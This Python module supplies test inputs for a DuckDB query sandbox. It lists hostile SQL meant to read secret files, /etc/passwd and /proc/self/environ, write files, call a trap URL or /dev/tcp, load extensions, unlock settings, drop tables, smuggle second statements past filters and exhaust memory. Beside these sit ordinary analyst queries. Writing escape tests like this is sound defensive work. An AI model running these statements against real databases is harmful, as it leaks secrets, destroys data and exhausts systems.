"""Statements that try to read, write, call out, change or exhaust; and ordinary ones that must not be refused.

Used by benchmarks/sandbox.py (all) and by the tests (a part of each family). `Traps` lays out what an escape
would touch: a secret file, a secret Python variable, a secret of the environment, a folder to write into and
a port to call.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import NamedTuple

SECRET = "leadline-canary-7f3a"


class Traps(NamedTuple):
    """Paths and a URL as hostile statements name them."""

    secret_file: str
    folder: str
    url: str


def families(traps: Traps) -> dict[str, list[str]]:
    """At least 300 statements over the tables shipments, invoices and prices."""
    return {
        "write files": list(_writes(traps)),
        "read files": list(_reads(traps)),
        "attach": list(_attaches(traps)),
        "extensions": list(_extensions(traps)),
        "settings": list(_settings(traps)),
        "changes": list(_changes()),
        "several statements": list(_several(traps)),
        "disguises": list(_disguises(traps)),
        "the host program": list(_host()),
        "network": list(_network(traps)),
        "bombs of rows": list(_row_bombs()),
        "bombs of memory": list(_memory_bombs()),
        "broken text": list(_broken()),
    }


def _writes(traps: Traps) -> Iterator[str]:
    for i, form in enumerate(("csv", "parquet", "json", "csv, header", "csv, delimiter '|'")):
        yield f"COPY shipments TO '{traps.folder}/a{i}' (FORMAT {form})"
        yield f"COPY (SELECT 1) TO '{traps.folder}/b{i}' (FORMAT {form})"
    for name in ("x.csv", "x.parquet", "../x.csv", ".bashrc", "x.csv.gz", "x.db"):
        yield f"COPY invoices TO '{traps.folder}/{name}'"
    yield f"EXPORT DATABASE '{traps.folder}/dump'"
    yield f"EXPORT DATABASE '{traps.folder}/dump' (FORMAT parquet)"
    yield f"IMPORT DATABASE '{traps.folder}'"
    yield f"COPY FROM DATABASE memory TO '{traps.folder}'"
    yield f"COPY shipments TO '{traps.folder}/p' (FORMAT parquet, PARTITION_BY (supplier))"
    yield f"COPY shipments FROM '{traps.secret_file}'"
    yield f"SELECT * INTO '{traps.folder}/y' FROM shipments"
    yield f"CREATE TABLE z AS SELECT * FROM read_text('{traps.secret_file}')"
    yield "COPY shipments TO '/dev/stdout'"
    yield "COPY (SELECT 'x') TO '/dev/tcp/127.0.0.1/9'"


def _reads(traps: Traps) -> Iterator[str]:
    functions = (
        "read_csv read_csv_auto read_text read_blob read_json read_json_auto read_json_objects read_ndjson "
        "read_ndjson_auto read_ndjson_objects read_parquet parquet_scan parquet_metadata parquet_schema "
        "parquet_file_metadata "
        "parquet_kv_metadata sniff_csv glob"
    ).split()
    for name in functions:
        yield f"SELECT * FROM {name}('{traps.secret_file}')"
    for name in ("read_csv", "read_text", "read_blob", "glob"):
        yield f"SELECT * FROM {name}('{traps.folder}/*')"
        yield f"SELECT * FROM {name}(['{traps.secret_file}'])"
    yield f"FROM '{traps.secret_file}'"
    yield f"SELECT * FROM '{traps.secret_file}'"
    yield f"SELECT (SELECT content FROM read_text('{traps.secret_file}'))"
    yield f"SELECT * FROM shipments, read_text('{traps.secret_file}')"
    yield f"WITH a AS (SELECT * FROM read_text('{traps.secret_file}')) SELECT * FROM a"
    yield "SELECT * FROM '/etc/passwd'"
    yield "SELECT * FROM read_text('/proc/self/environ')"
    yield "SELECT * FROM read_blob('/proc/self/mem')"
    yield "SELECT * FROM read_text('file:///etc/hostname')"
    yield f"SELECT * FROM read_text('{traps.secret_file}') UNION ALL SELECT 1, 2, 3, 4"
    yield f"SELECT * FROM query('SELECT * FROM read_text(''{traps.secret_file}'')')"
    yield f"SELECT * FROM query_table('{traps.secret_file}')"
    yield f"DESCRIBE SELECT * FROM read_csv('{traps.secret_file}')"
    yield f"SUMMARIZE '{traps.secret_file}'"


def _attaches(traps: Traps) -> Iterator[str]:
    for form in (
        "",
        " (READ_ONLY)",
        " (TYPE sqlite)",
        " (TYPE postgres)",
        " (TYPE mysql)",
        " AS other",
        " AS other (TYPE duckdb)",
    ):
        yield f"ATTACH '{traps.folder}/new.db'{form}"
    yield f"ATTACH IF NOT EXISTS '{traps.secret_file}' AS s"
    yield "ATTACH ':memory:' AS other"
    yield f"ATTACH OR REPLACE '{traps.folder}/new.db' AS memory"
    yield "DETACH memory"
    yield "USE memory.main"
    yield f"SELECT * FROM sqlite_scan('{traps.folder}/new.db', 'a')"
    yield "SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 'a')"
    yield f"CREATE DATABASE '{traps.folder}/c.db'"


def _extensions(traps: Traps) -> Iterator[str]:
    for name in ("httpfs", "sqlite", "postgres", "excel", "spatial", "fts", "vss", "aws", "shellfs"):
        yield f"INSTALL {name}"
        yield f"LOAD {name}"
    yield "FORCE INSTALL httpfs"
    yield "INSTALL shellfs FROM community"
    yield f"INSTALL httpfs FROM '{traps.url}'"
    yield f"LOAD '{traps.folder}/evil.duckdb_extension'"
    yield "UPDATE EXTENSIONS"
    yield "SELECT * FROM read_xlsx('a.xlsx')"
    yield "SELECT * FROM st_read('a.shp')"
    yield "SELECT * FROM duckdb_extensions()"


def _settings(traps: Traps) -> Iterator[str]:
    wishes = {
        "enable_external_access": "true",
        "lock_configuration": "false",
        "memory_limit": "'64GB'",
        "threads": "64",
        "temp_directory": f"'{traps.folder}'",
        "autoload_known_extensions": "true",
        "autoinstall_known_extensions": "true",
        "allow_community_extensions": "true",
        "python_enable_replacements": "true",
        "disabled_filesystems": "''",
        "home_directory": f"'{traps.folder}'",
        "log_query_path": f"'{traps.folder}/log'",
        "custom_user_agent": "'x'",
        "allowed_paths": f"['{traps.secret_file}']",
        "allowed_directories": f"['{traps.folder}']",
        "extension_directory": f"'{traps.folder}'",
        "secret_directory": f"'{traps.folder}'",
        "enable_profiling": "'json'",
        "profiling_output": f"'{traps.folder}/prof'",
        "max_temp_directory_size": "'10GB'",
        "file_search_path": "'/'",
    }
    for name, value in wishes.items():
        yield f"SET {name} = {value}"
        yield f"PRAGMA {name} = {value}"
    for name in ("lock_configuration", "enable_external_access", "memory_limit"):
        yield f"RESET {name}"
        yield f"SET GLOBAL {name} = true"
        yield f"SET SESSION {name} = true"
    yield "SELECT set_config('enable_external_access', 'true', false)"
    yield "PRAGMA enable_profiling"
    yield f"SELECT * FROM enable_logging('QueryLog', storage='file', storage_path='{traps.folder}/log')"
    yield f"CALL enable_logging(storage='file', storage_path='{traps.folder}/log')"
    yield f"SELECT * FROM enable_profiling(format='json', save_location='{traps.folder}/prof')"
    yield "SET VARIABLE a = 1"


def _changes() -> Iterator[str]:
    yield from (
        "INSERT INTO prices SELECT * FROM prices",
        "INSERT INTO invoices BY NAME SELECT 'x' AS number",
        "INSERT OR REPLACE INTO prices SELECT * FROM prices",
        "INSERT INTO prices SELECT * FROM prices RETURNING *",
        "UPDATE invoices SET amount_eur = 0",
        "UPDATE prices SET price_eur = price_eur * 2 WHERE true RETURNING *",
        "DELETE FROM shipments",
        "DELETE FROM prices USING invoices",
        "TRUNCATE shipments",
        "TRUNCATE TABLE prices",
        "DROP TABLE shipments",
        "DROP TABLE IF EXISTS prices CASCADE",
        "DROP SCHEMA main CASCADE",
        "DROP VIEW duckdb_tables",
        "ALTER TABLE prices RENAME TO p2",
        "ALTER TABLE prices ADD COLUMN hole INTEGER",
        "ALTER TABLE prices DROP COLUMN price_eur",
        "CREATE TABLE t2 (a INTEGER)",
        "CREATE TEMP TABLE t2 AS SELECT 1",
        "CREATE OR REPLACE TABLE prices AS SELECT 1",
        "CREATE VIEW v AS SELECT 1",
        "CREATE OR REPLACE VIEW prices AS SELECT 1",
        "CREATE MACRO sum(x) AS 0",
        "CREATE OR REPLACE MACRO count(x) AS 42",
        "CREATE FUNCTION f(x) AS x",
        "CREATE SEQUENCE s",
        "CREATE TYPE mood AS ENUM ('a')",
        "CREATE INDEX i ON prices (sku)",
        "CREATE SCHEMA other",
        "CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b')",
        "CREATE PERSISTENT SECRET p (TYPE http)",
        "COMMENT ON TABLE prices IS 'x'",
        "MERGE INTO prices USING invoices ON false WHEN NOT MATCHED THEN INSERT DEFAULT VALUES",
        "VACUUM",
        "ANALYZE",
        "CHECKPOINT",
        "FORCE CHECKPOINT",
        "WITH d AS (DELETE FROM prices RETURNING *) SELECT * FROM d",
        "SELECT nextval('s')",
        "PIVOT shipments ON supplier USING count(*)",
        "CALL force_checkpoint()",
        "SELECT * FROM query('DELETE FROM prices')",
        "SELECT * FROM force_checkpoint()",
    )


def _several(traps: Traps) -> Iterator[str]:
    seconds = (
        "DROP TABLE prices",
        f"COPY prices TO '{traps.folder}/m.csv'",
        f"ATTACH '{traps.folder}/m.db'",
        "SET lock_configuration=false",
        "SELECT 2",
        "INSTALL httpfs",
    )
    for second in seconds:
        yield f"SELECT 1; {second}"
        yield f"{second}; SELECT 1"
        yield f"SELECT ';'; {second};"
        yield f"COMMIT; {second}"
    yield "BEGIN; DELETE FROM prices; COMMIT"
    yield "ROLLBACK; DELETE FROM prices"


def _disguises(traps: Traps) -> Iterator[str]:
    targets = ("DROP TABLE prices", f"COPY prices TO '{traps.folder}/d.csv'", f"ATTACH '{traps.folder}/d.db'")
    for target in targets:
        head, _, tail = target.partition(" ")
        yield f"/* SELECT */ {target}"
        yield f"-- SELECT 1\n{target}"
        yield f"/* a /* nested */ */ {target}"
        yield f"{head}/**/{tail}"
        yield f"{head.lower()}\t\n{tail}"
        yield "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(head)) + f" {tail}"
        yield f"﻿{target}"
        yield f"\u200b{target}"
        yield f"{head}\u00a0{tail}"
        yield f"EXPLAIN ANALYZE {target}"
        yield f"EXPLAIN {target}"
        yield f"PREPARE p AS {target}"
        yield f"EXECUTE IMMEDIATE '{target}'"
        yield f"({target})"
        yield f"SELECT * FROM ({target})"
        yield f"SELECT * FROM query($${target}$$)"
    yield "ＤＲＯＰ TABLE prices"
    yield "SELECT 1 -- \u2028 DROP TABLE prices"
    yield "EXECUTE p"
    yield "DEALLOCATE p"


def _host() -> Iterator[str]:
    for name in ("canary", "canary_frame", "canary_table", "self", "tables", "os", "sys"):
        yield f"SELECT * FROM {name}"
        yield f'FROM "{name}"'
    yield "SELECT getenv('LEADLINE_CANARY')"
    yield "SELECT getvariable('canary')"
    yield "SELECT current_setting('LEADLINE_CANARY')"
    yield "SELECT * FROM python_map_function()"
    yield "SELECT * FROM pandas_scan(1)"
    yield "SELECT * FROM arrow_scan(1, 2, 3)"
    yield "SELECT * FROM arrow_scan_dumb(140000000000000, 140000000000000, 140000000000000)"
    yield "SELECT * FROM duckdb_secrets(redact=false)"
    yield "SELECT canary_function(1)"


def _network(traps: Traps) -> Iterator[str]:
    for scheme in (
        traps.url,
        "http://127.0.0.1:9/x",
        "https://localhost/x",
        "s3://bucket/x",
        "gcs://bucket/x",
        "hf://datasets/x/y",
    ):
        yield f"SELECT * FROM read_text('{scheme}/a.csv')"
        yield f"SELECT * FROM read_csv('{scheme}/a.csv')"
        yield f"FROM '{scheme}/a.parquet'"
        yield f"COPY prices TO '{scheme}/a.csv'"
    yield f"ATTACH '{traps.url}/a.db'"
    yield f"SELECT http_get('{traps.url}')"
    yield "SELECT * FROM which_secret('s3://a', 's3')"


def _row_bombs() -> Iterator[str]:
    yield "SELECT count(*) FROM shipments a, shipments b, shipments c"
    yield (
        "SELECT sum(a.quantity * b.quantity + c.quantity) FROM shipments a CROSS JOIN shipments b "
        "CROSS JOIN shipments c"
    )
    yield "SELECT count(*) FROM range(10000000000000)"
    yield "SELECT sum(i) FROM generate_series(1, 10000000000000) t(i)"
    yield "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r"
    yield "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT a.n + 1 FROM r a, range(10) b) SELECT count(*) FROM r"
    yield "WITH RECURSIVE r(n) AS (SELECT 1 UNION SELECT n + 1 FROM r) SELECT max(n) FROM r"
    yield "SELECT count(DISTINCT md5(i::VARCHAR)) FROM range(1000000000) t(i)"
    yield "SELECT i, row_number() OVER (ORDER BY hash(i)) FROM range(2000000000) t(i)"
    yield (
        "SELECT count(*) FROM shipments a JOIN shipments b ON a.weight_kg < b.weight_kg JOIN "
        "shipments c ON b.weight_kg < c.weight_kg"
    )
    yield "SELECT max(sha256(repeat(i::VARCHAR, 1000))) FROM range(100000000) t(i)"
    yield "SELECT sum(length(regexp_replace(repeat('a', 10000), '(a|a)*b', 'x'))) FROM range(100000000)"


def _memory_bombs() -> Iterator[str]:
    yield "SELECT repeat('x', 4000000000)"
    yield "SELECT length(repeat(repeat('x', 100000), 100000))"
    yield "SELECT repeat('x', 500000000) FROM range(100)"
    yield "SELECT list(i) FROM range(10000000000) t(i)"
    yield "SELECT string_agg(i::VARCHAR, ',') FROM range(1000000000) t(i)"
    yield "SELECT range(2000000000)"
    yield "SELECT list_sort(range(500000000))"
    yield "SELECT flatten(list_transform(range(100000), x -> range(100000)))"
    yield "SELECT lpad('x', 2000000000, 'y')"
    yield "SELECT levenshtein(repeat('ab', 100000), repeat('ba', 100000))"
    yield "SELECT bitstring('1', 2000000000)"
    yield "SELECT * FROM (SELECT repeat('x', 1000000) FROM range(100000)) ORDER BY 1"
    yield "SELECT count(*) FROM (SELECT DISTINCT repeat(i::VARCHAR, 10000) FROM range(10000000) t(i))"
    yield "SELECT array_to_string(list_transform(range(100000000), x -> 'abcdef'), '')"
    yield "SELECT to_json(range(1000000000))"
    yield "SELECT printf('%2000000000d', 1)"
    yield "SELECT factorial(1000000)"
    yield "SELECT format('{:>2000000000}', 'x')"


def _broken() -> Iterator[str]:
    yield ""
    yield ";"
    yield ";;;"
    yield "\x00"
    yield "SELECT \x00 1"
    yield "SELECT '\ud800'"
    yield "SELECT 1" * 5000
    yield "(" * 20000 + "SELECT 1" + ")" * 20000
    yield "SELECT " + "(" * 5000 + "1" + ")" * 5000
    yield "SELECT " + "1+" * 40000 + "1"
    yield "SELECT " + "NOT " * 20000 + "true"
    yield "SELECT CASE " + "WHEN 1 THEN 1 " * 6000 + "END"
    yield "SELECT * FROM " + "(SELECT * FROM " * 3000 + "prices" + ")" * 3000
    yield "SELECT " + ",".join(["1"] * 40000)
    yield "SELECT 'unfinished"
    yield "SELECT /* unfinished"
    yield "SELEKT 1"
    yield "SELECT * FROM nowhere"
    yield "x" * 200_000


# ---- ordinary queries ---------------------------------------------------------------------------------

ORDINARY = (
    "SELECT count(*) FROM {t}",
    "SELECT {k}, count(*) AS n FROM {t} GROUP BY {k} ORDER BY n DESC, {k} LIMIT 5",
    "SELECT sum({m}), avg({m}), min({m}), max({m}) FROM {t}",
    "SELECT {k}, sum({m}) AS total FROM {t} GROUP BY ALL HAVING sum({m}) > 10 ORDER BY ALL",
    "SELECT * FROM {t} WHERE {m} BETWEEN 10 AND 5000 ORDER BY {m} LIMIT 20",
    "SELECT date_trunc('month', {d}) AS month, count(*) FROM {t} GROUP BY 1 ORDER BY 1",
    "SELECT year({d}) AS y, quarter({d}) AS q, sum({m}) FROM {t} GROUP BY y, q ORDER BY y, q",
    "WITH a AS (SELECT {k}, sum({m}) AS s FROM {t} GROUP BY {k}) SELECT * FROM a WHERE s > (SELECT avg(s) FROM a)",
    "SELECT {k}, {m}, rank() OVER (PARTITION BY {k} ORDER BY {m} DESC) AS r FROM {t} QUALIFY r <= 2 ORDER BY {k}, r",
    "SELECT median({m}), quantile_cont({m}, 0.9), stddev({m}) FROM {t}",
    "SELECT CASE WHEN {m} > 100 THEN 'large' ELSE 'small' END AS size, count(*) FROM {t} GROUP BY size",
    "SELECT upper({k}), length({k}), replace({k}, 'o', '0') FROM {t} LIMIT 3",
    "SELECT DISTINCT {k} FROM {t} WHERE {k} LIKE '%a%' OR {k} ILIKE 'N%'",
    "SELECT {k}, count(*) FILTER (WHERE {m} > 50) AS big FROM {t} GROUP BY {k}",
    "SELECT {k}, list({m} ORDER BY {m})[1:3] FROM {t} GROUP BY {k}",
    "SELECT {k} FROM {t} EXCEPT SELECT {k} FROM {t} WHERE {m} > 100",
    "SELECT strftime({d}, '%Y-%m'), round(avg({m}), 2) FROM {t} GROUP BY 1 ORDER BY 1 DESC LIMIT 6",
    "SELECT {k}, sum({m}) FROM {t} GROUP BY ROLLUP ({k}) ORDER BY 1 NULLS LAST",
    "FROM {t} SELECT {k}, {m} WHERE {m} IS NOT NULL LIMIT 2",
    "SELECT corr({m}, {m}), approx_count_distinct({k}) FROM {t}",
    "SELECT {d}, lag({m}) OVER (ORDER BY {d}, {m}) FROM {t} ORDER BY {d} LIMIT 5",
    "SELECT coalesce({k}, 'none'), string_agg(DISTINCT {k}, ', ') FROM {t} GROUP BY 1 LIMIT 4",
    "SELECT datediff('day', min({d}), max({d})) FROM {t}",
    "SELECT a.{k}, count(*) FROM {t} a JOIN suppliers s ON a.supplier = s.supplier GROUP BY a.{k} ORDER BY 2 DESC, 1",
    "SELECT 100.0 * count(*) FILTER (WHERE {m} > 100) / count(*) AS share FROM {t}",
)
SHAPES = (
    ("shipments", ("supplier", "carrier", "status", "sku"), ("freight_eur",), ("shipped", "due", "arrived")),
    ("invoices", ("supplier", "project", "status"), ("amount_eur",), ("issued", "due")),
    ("prices", ("supplier", "category", "unit"), ("price_eur", "min_order"), ("valid_from",)),
)  # fmt: skip


def ordinary(n: int = 200, seed: int = 0) -> list[str]:
    """`n` different analytic queries in the manner of an analyst."""
    chance, made, turn = random.Random(seed), dict[str, None](), 0
    while len(made) < n:
        table, keys, measures, days = chance.choice(SHAPES)
        form, turn = ORDINARY[turn % len(ORDINARY)], turn + 1
        made[
            form.format(t=table, k=chance.choice(keys), m=chance.choice(measures), d=chance.choice(days))
        ] = None
    return list(made)
